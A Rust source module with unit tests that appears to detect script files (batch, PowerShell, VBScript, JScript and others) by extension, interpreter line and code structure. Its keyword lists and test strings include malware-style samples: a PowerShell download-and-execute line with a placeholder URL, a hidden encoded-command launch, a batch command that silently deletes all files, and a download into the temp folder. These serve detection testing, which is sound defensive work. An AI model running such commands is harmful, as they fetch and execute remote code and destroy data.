//! Scripts: by the extension that makes a system run them, by the interpreter line, or by structure no prose has.
//!
//! A text that talks about PowerShell is a text. So content alone counts only when a statement of the language starts a
//! line and at least half of the lines look like code.

use model::Format;

/// `body` without leading blanks, `lower` its start in lower case.
pub(super) fn classify(body: &str, lower: &str, extension: &str) -> Option<Format> {
    by_extension(extension)
        .or_else(|| shebang(lower))
        .or_else(|| body.get(..body.len().min(200)).or(Some(body)).filter(|start| start.contains("#@~^")).map(|_| Format::ScriptVbs))
        .or_else(|| batch(lower))
        .or_else(|| if is_source(extension) { None } else { structure(lower) })
}

fn by_extension(extension: &str) -> Option<Format> {
    Some(match extension {
        "bat" | "cmd" | "btm" => Format::ScriptBatch,
        "ps1" | "psm1" | "psd1" | "ps1xml" | "psc1" | "pssc" => Format::ScriptPowershell,
        "vbs" | "vbe" | "bas" | "vba" => Format::ScriptVbs,
        "js" | "jse" | "mjs" | "cjs" => Format::ScriptJs,
        "wsf" | "wsh" | "wsc" | "sct" => Format::ScriptWsf,
        "sh" | "bash" | "zsh" | "ksh" | "csh" | "fish" | "command" | "run" => Format::ScriptShell,
        "py" | "pyw" => Format::ScriptPython,
        "pl" | "pm" => Format::ScriptPerl,
        "rb" => Format::ScriptRuby,
        "php" | "phtml" | "php3" | "php5" | "phar" => Format::ScriptPhp,
        "lua" | "tcl" | "au3" | "scpt" | "applescript" | "ahk" | "nse" | "awk" | "jsx" | "ksx" | "scr" | "msc" => Format::ScriptOther,
        _ => return None,
    })
}

/// Extensions of source code that a compiler, not a shell, turns into something.
fn is_source(extension: &str) -> bool {
    matches!(
        extension,
        "c" | "h"
            | "cc"
            | "cpp"
            | "cxx"
            | "hpp"
            | "cs"
            | "java"
            | "kt"
            | "rs"
            | "go"
            | "swift"
            | "m"
            | "css"
            | "scss"
            | "sql"
            | "ts"
            | "vb"
            | "pas"
            | "f90"
            | "yar"
            | "yara"
            | "toml"
            | "yaml"
            | "yml"
            | "md"
            | "rst"
            | "tex"
            | "adoc"
    )
}

fn shebang(lower: &str) -> Option<Format> {
    let line = lower.strip_prefix("#!")?.lines().next()?.trim();
    if !line.starts_with('/') {
        return None;
    }
    let words = line.split(|c: char| c.is_whitespace() || c == '/');
    let name = words
        .filter(|word| !word.is_empty() && !word.starts_with('-') && !word.contains('='))
        .find(|word| !matches!(*word, "usr" | "bin" | "local" | "opt" | "env" | "sbin" | "homebrew"))?;
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match name {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "fish" | "ash" | "busybox" => Format::ScriptShell,
        "python" | "pypy" => Format::ScriptPython,
        "perl" => Format::ScriptPerl,
        "ruby" => Format::ScriptRuby,
        "php" => Format::ScriptPhp,
        "node" | "nodejs" | "deno" | "bun" => Format::ScriptJs,
        "pwsh" | "powershell" => Format::ScriptPowershell,
        _ => Format::ScriptOther,
    })
}

fn batch(lower: &str) -> Option<Format> {
    let first = lower.lines().map(str::trim).find(|line| !line.is_empty())?.trim_start_matches('@').trim_start();
    let starts = ["echo off", "echo on", "setlocal", "cmd /c", "cmd.exe /c"].iter().any(|start| first.starts_with(start));
    starts.then_some(Format::ScriptBatch)
}

/// What makes a language: statements that start a line, and marks that may stand anywhere in a line of code.
struct Language {
    format: Format,
    starts: &'static [&'static str],
    marks: &'static [&'static str],
}

const LANGUAGES: &[Language] = &[
    Language {
        format: Format::ScriptPowershell,
        starts: &[
            "invoke-expression",
            "iex ",
            "iex(",
            "invoke-webrequest",
            "iwr ",
            "start-process",
            "invoke-command",
            "new-object",
            "add-type",
            "set-executionpolicy",
            "import-module",
            "get-wmiobject",
            "invoke-item",
            "(new-object",
            "[system.reflection",
            "[convert]::",
            "powershell ",
            "powershell.exe",
            "pwsh ",
            "start-bitstransfer",
            "write-host",
            "param(",
            "param (",
            "$erroractionpreference",
            "set-item",
            "set-itemproperty",
            "new-item",
            "get-childitem",
        ],
        marks: &[
            "$env:",
            "-encodedcommand",
            "new-object ",
            "invoke-expression",
            "invoke-webrequest",
            "downloadstring",
            "frombase64string",
            "[convert]::",
            "-executionpolicy",
            "$_",
            "write-host",
            "get-content",
            "$null",
            "-enc ",
            "get-childitem",
            "measure-object",
            "$erroractionpreference",
        ],
    },
    Language {
        format: Format::ScriptVbs,
        starts: &["set ", "dim ", "on error resume next", "createobject(", "wscript.", "execute ", "executeglobal", "sub ", "function "],
        marks: &[
            "wscript.shell",
            "wscript.createobject",
            "createobject(",
            "wscript.sleep",
            "wscript.echo",
            "wscript.arguments",
            "getobject(",
        ],
    },
    Language {
        format: Format::ScriptJs,
        starts: &[
            "var ",
            "let ",
            "const ",
            "new activexobject",
            "wscript.",
            "function ",
            "eval(",
            "(function",
            "require(",
            "\"use strict\"",
            "'use strict'",
            "try",
        ],
        marks: &[
            "activexobject(",
            "wscript.createobject(",
            "wscript.shell",
            "document.write(",
            "eval(",
            "require(",
            "string.fromcharcode(",
            "window.location",
        ],
    },
];

fn structure(lower: &str) -> Option<Format> {
    let lines: Vec<&str> = lower.lines().map(str::trim).filter(|line| !line.is_empty()).take(2000).collect();
    let code = lines.iter().filter(|line| is_code(line)).count();
    if code * 2 < lines.len() || lines.is_empty() {
        return None;
    }
    let fits = |language: &&Language| {
        let starts = lines
            .iter()
            .any(|line| language.starts.iter().any(|start| line.starts_with(start)) || line.starts_with('$') && line.contains('='));
        let marks = lines.iter().any(|line| is_code(line) && language.marks.iter().any(|mark| line.contains(mark)));
        starts && marks
    };
    LANGUAGES.iter().find(fits).map(|language| language.format)
}

/// A line as programs have them: ends like a statement or block, assigns, calls, comments, or starts with a keyword.
fn is_code(line: &str) -> bool {
    // Approved verbs of PowerShell that begin most commands.
    const CMDLET_VERBS: [&str; 16] = [
        "add",
        "convertto",
        "export",
        "foreach",
        "get",
        "import",
        "invoke",
        "new",
        "out",
        "remove",
        "select",
        "set",
        "start",
        "stop",
        "where",
        "write",
    ];
    const KEYWORDS: [&str; 22] = [
        "set ",
        "dim ",
        "end ",
        "end if",
        "next",
        "loop",
        "wend",
        "else",
        "sub ",
        "function ",
        "on error",
        "const ",
        "var ",
        "let ",
        "if ",
        "for ",
        "do ",
        "while ",
        "try",
        "catch",
        "return",
        "param",
    ];
    let ends = line.ends_with([';', '{', '}', ')']) && !line.ends_with("...)");
    let sentence = line.ends_with(['.', '!', '?', ':']) && line.split_whitespace().count() > 4;
    let assigns = line.split_once('=').is_some_and(|(left, _)| {
        let left = left.trim().trim_end_matches(['+', '-', '.']);
        !left.is_empty() && left.split_whitespace().count() <= 2 && left.len() < 60
    });
    let command = line.split_whitespace().next().is_some_and(|word| {
        word.starts_with("powershell")
            || word.starts_with("pwsh")
            || word.starts_with("iex")
            || word.contains('-') && line.contains(" -") && word.split('-').count() == 2
            || word.split_once('-').is_some_and(|(verb, noun)| CMDLET_VERBS.contains(&verb) && noun.chars().all(char::is_alphabetic))
    });
    let method = line.split([' ', '(']).next().and_then(|word| word.split_once('.')).is_some_and(|(object, name)| {
        !object.is_empty() && name.len() > 1 && object.chars().chain(name.chars()).all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
    });
    let keyword = KEYWORDS.iter().any(|keyword| line.starts_with(keyword));
    !sentence
        && (ends
            || assigns
            || command
            || method
            || keyword
            || line.starts_with('#') && !line.starts_with("# ")
            || line.starts_with("//")
            || line.starts_with('$'))
}

#[cfg(test)]
mod tests {
    use super::super::text;
    use model::Format;

    #[test]
    fn extensions_and_interpreter_lines_decide() {
        for (extension, format) in
            [("bat", Format::ScriptBatch), ("ps1", Format::ScriptPowershell), ("jse", Format::ScriptJs), ("pyw", Format::ScriptPython)]
        {
            assert_eq!(text::classify("whatever it says", extension), format);
        }
        for (line, format) in [
            ("#!/bin/sh\n", Format::ScriptShell),
            ("#!/usr/bin/env python3\n", Format::ScriptPython),
            ("#! /usr/bin/perl -w\n", Format::ScriptPerl),
            ("#!/usr/bin/env -S node --x\n", Format::ScriptJs),
            ("#!/usr/bin/expect\n", Format::ScriptOther),
            ("#![no_std]\n", Format::Txt),
        ] {
            assert_eq!(text::classify(line, "txt"), format, "{line}");
        }
    }

    #[test]
    fn structure_shows_in_any_file() {
        for (source, format) in [
            ("@echo off\r\ndel /q *.*\r\n", Format::ScriptBatch),
            ("IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n", Format::ScriptPowershell),
            ("param([string]$Ordner = '.')\n$ErrorActionPreference = 'Stop'\nWrite-Host \"Dateien: $Ordner\"\n", Format::ScriptPowershell),
            ("powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA\n", Format::ScriptPowershell),
            ("$a = $env:TEMP\n$b = New-Object System.Net.WebClient\n$b.DownloadFile('u', $a)\n", Format::ScriptPowershell),
            ("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\", 0, False\nWScript.Sleep 10\n", Format::ScriptVbs),
            ("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", Format::ScriptJs),
            ("#@~^DgAAAA==\\ko$K6,JCr~", Format::ScriptVbs),
        ] {
            assert_eq!(text::classify(source, "txt"), format, "{source}");
        }
    }

    #[test]
    fn prose_about_scripts_is_text() {
        for source in [
            "PowerShell has a command Invoke-Expression that runs a string.\nIt is often abused together with New-Object Net.WebClient.\nSo $env:TEMP is a place to watch.\n",
            "To list files, run Get-ChildItem.\n\nThen use Write-Host to print them.\nThat is all there is to say about it.\n",
            "Set theory is fun.\nCreateObject( is a function of VBScript, as everybody knows.\nMore prose follows here.\n",
            "import this is a joke of Python.\n",
        ] {
            assert_eq!(text::classify(source, "txt"), Format::Txt, "{source}");
        }
        assert_eq!(
            text::classify("rule a { strings: $a = \"Invoke-Expression\"\n$b = \"$env:\"\ncondition: all of them }", "yar"),
            Format::Txt
        );
        assert_eq!(text::classify("/* c */\nint main(void) {\n  return 0;\n}\n", "c"), Format::Txt);
    }
}
